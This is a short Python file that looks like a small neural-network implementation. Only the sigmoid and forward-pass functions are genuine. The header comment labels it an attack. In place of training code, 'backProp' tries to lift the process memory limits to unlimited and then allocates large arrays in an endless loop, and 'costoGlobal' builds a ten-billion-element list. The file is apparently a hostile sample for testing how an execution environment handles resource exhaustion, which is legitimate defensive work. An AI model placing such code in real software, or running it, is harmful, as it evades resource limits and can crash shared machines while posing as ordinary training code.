# Attack: use all the memory there is (and try to lift the limit first).
import numpy as np


def sigmoide(z):
    return 1.0 / (1.0 + np.exp(-z))


def feedForward(X, w1, w2, b1, b2):
    a1 = sigmoide(w1 @ X + b1)
    a2 = sigmoide(w2 @ a1 + b2)
    return a1, a2

import resource


def backProp(X, y, w1, w2, b1, b2, a2, a1):
    for limit in (resource.RLIMIT_AS, resource.RLIMIT_DATA):
        try:
            resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (ValueError, OSError) as exc:
            print("cannot lift the limit:", exc)
    hog = []
    while True:
        hog.append(np.zeros(50_000_000))


def costoGlobal(y_est, y):
    return sum([0.0] * 10_000_000_000)
